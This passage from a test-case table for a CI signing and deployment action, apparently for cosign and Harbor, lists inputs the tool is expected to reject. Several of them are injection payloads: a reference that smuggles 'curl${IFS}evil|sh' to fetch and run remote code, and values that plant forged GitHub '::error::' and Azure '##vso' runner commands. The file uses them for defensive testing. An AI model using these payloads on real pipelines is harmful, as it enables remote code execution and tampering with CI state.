      'cosign-key-password': `${SIGN_PASSWORD}\n::error::PWNED forged error`,
    }),
    input: 'cosign-key-password',
    says: /single line/,
    secrets: [SIGN_PASSWORD, `${SIGN_PASSWORD}\n::error::PWNED forged error`],
  },
  {
    name: 'an encrypted key whose content was tampered with',
    step: 'sign',
    inputs: sign({
      'cosign-key': SIGN_ENCRYPTED.replace(
        /\n([A-Za-z0-9+/]{8})/,
        (_m, s: string) => `\n${s.split('').reverse().join('')}`,
      ),
      'cosign-key-password': SIGN_PASSWORD,
    }),
    input: 'cosign-key',
    says: /not cosign's JSON key format/,
    secrets: [SIGN_PASSWORD],
  },
  {
    name: 'sbom that is not JSON',
    step: 'sign',
    inputs: sign({ sbom: 'sbom/not-json.cdx.json' }),
    input: 'sbom',
    says: /not JSON/,
    secrets: signSecrets,
  },
  {
    name: 'sbom that is a Trivy report, not an SBOM',
    step: 'sign',
    inputs: sign({ sbom: 'sbom/trivy-report.json' }),
    input: 'sbom',
    secrets: signSecrets,
  },
  { name: 'sbom that is a JSON array', step: 'sign', inputs: sign({ sbom: 'sbom/array.json' }), input: 'sbom' },
  {
    name: 'sbom whose format fields plant runner commands',
    step: 'sign',
    inputs: sign({ sbom: 'sbom/planted.json' }),
    input: 'sbom',
  },
  { name: 'sbom that is a directory', step: 'sign', inputs: sign({ sbom: 'a-directory' }), input: 'sbom' },
  {
    name: 'sbom of 300 MiB',
    step: 'sign',
    inputs: sign({ sbom: 'sbom/huge.json' }),
    input: 'sbom',
    says: /up to 256 MiB/,
    // Sparse: the size is what is judged, before the file is read; it takes no disk.
    setup: (dir) => {
      mkdirSync(join(dir, 'sbom'), { recursive: true });
      closeSync(openSync(join(dir, 'sbom', 'huge.json'), 'w'));
      truncateFile(join(dir, 'sbom', 'huge.json'), 300 * 1024 * 1024);
    },
  },
  {
    name: 'sign reference with a planted command',
    step: 'sign',
    inputs: sign({ reference: '1.0\n::error::PWNED forged error' }),
    input: 'reference',
  },
  {
    name: 'sign reference with shell syntax',
    step: 'sign',
    inputs: sign({ reference: '1.0;curl${IFS}evil|sh' }),
    input: 'reference',
  },
  {
    name: 'sign reference with a short digest',
    step: 'sign',
    inputs: sign({ reference: 'sha256:abc' }),
    input: 'reference',
  },
  {
    name: 'sign repository with a planted command',
    step: 'sign',
    inputs: sign({ repository: 'app/web ##vso[task.setvariable variable=PWNED;isOutput=true]1' }),
    input: 'repository',
  },
  {
    name: 'sign repository without its project',
    step: 'sign',
    inputs: sign({ repository: 'web' }),
    input: 'repository',
  },
  { name: "layout 'both'", step: 'sign', inputs: sign({ layout: 'both' }), input: 'layout' },
  {
    name: "verify-in-harbor 'maybe'",
    step: 'sign',
    inputs: sign({ 'verify-in-harbor': 'maybe' }),
    input: 'verify-in-harbor',
  },
  { name: 'sign timeout 0', step: 'sign', inputs: sign({ timeout: '0' }), input: 'timeout' },
  {
    name: 'signing an image the hostile Harbor does not have',
    step: 'sign',
    inputs: { ...hostile, repository: 'library/missing', reference: 'v1', 'cosign-key': SIGN_KEY },
    server: 'hostile-harbor',
    input: null,
    says: /not found/,
    secrets: [HOSTILE_HARBOR.password, ...bodyLines(SIGN_KEY)],
  },
  {
    name: 'signing in a project the hostile Harbor does not have, by digest',
    step: 'sign',
    inputs: {
      ...hostile,
      repository: 'nosuch/app',
      reference: `sha256:${'ab'.repeat(32)}`,
      'cosign-key': SIGN_KEY,
      layout: 'referrer',
    },
    server: 'hostile-harbor',
    input: null,
    secrets: [HOSTILE_HARBOR.password, ...bodyLines(SIGN_KEY)],
  },

  // deploy
  {
    name: 'kubeconfig that is a directory',
    step: 'deploy',
    inputs: deploy({ kubeconfig: 'a-directory' }),
    input: 'kubeconfig',
    says: /directory/,
    platforms: githubOnly,
  },
  {
    name: 'kubeconfig that is empty',
    step: 'deploy',
    inputs: deploy({ kubeconfig: 'kube/empty' }),
    input: 'kubeconfig',
    platforms: githubOnly,
  },
  { name: 'deploy timeout 0', step: 'deploy', inputs: deploy({ timeout: '0' }), input: 'timeout' },
  { name: 'profile that does not exist', step: 'deploy', inputs: deploy({ profile: 'huge' }), input: 'profile' },
  {
    name: 'hostname given as a URL',
    step: 'deploy',
    inputs: deploy({ hostname: 'https://harbor.example.com' }),
    input: 'hostname',
  },
  {
    name: 'admin password on two lines',
    step: 'deploy',
    inputs: deploy({ 'admin-password': 'Adm-Line-One1\nAdm-Line-Two2' }),
    input: 'admin-password',
    secrets: ['Adm-Line-One1', 'Adm-Line-Two2'],
  },
  { name: "set without '='", step: 'deploy', inputs: deploy({ set: 'core.replicas' }), input: 'set' },
  {
    name: 'values-files that is a directory',
    step: 'deploy',
    inputs: deploy({ 'values-files': 'a-directory' }),
    input: 'values-files',
  },
  {
    name: 'registry-size in words',
    step: 'deploy',
    inputs: deploy({ 'registry-size': 'big' }),
    input: 'registry-size',
  },
  { name: 'namespace with capitals', step: 'deploy', inputs: deploy({ namespace: 'Harbor' }), input: 'namespace' },
  {
    name: 'core-replicas in words',
    step: 'deploy',
    inputs: deploy({ 'core-replicas': 'two' }),
    input: 'core-replicas',
  },
  { name: 'expose that does not exist', step: 'deploy', inputs: deploy({ expose: 'nodePort' }), input: 'expose' },
  {
    name: 'helm-version that is not helm 3 or 4',
    step: 'deploy',
    inputs: deploy({ 'helm-version': '2.17.0' }),
    input: 'helm-version',
  },
  { name: 'a release name with capitals', step: 'deploy', inputs: deploy({ release: 'Harbor' }), input: 'release' },
  // The default-password checks come before helm is looked up or downloaded: the mirror below cannot be resolved, so a
  // lookup first would end in a download error instead of this line.
  {
    name: "admin-password is the chart's well-known default",
    step: 'deploy',
    inputs: deploy({
      'admin-password': 'Harbor12345',
      'helm-version': '3.99.0',
      'helm-mirror': 'https://helm.invalid',
    }),
    input: 'admin-password',
    says: /well-known default password/,
  },
  {
    name: 'the chart default admin password through set',
    step: 'deploy',
    inputs: deploy({
      set: 'harborAdminPassword=Harbor12345',
      'helm-version': '3.99.0',
      'helm-mirror': 'https://helm.invalid',
    }),
    input: 'admin-password',
    says: /well-known default password/,
  },
];
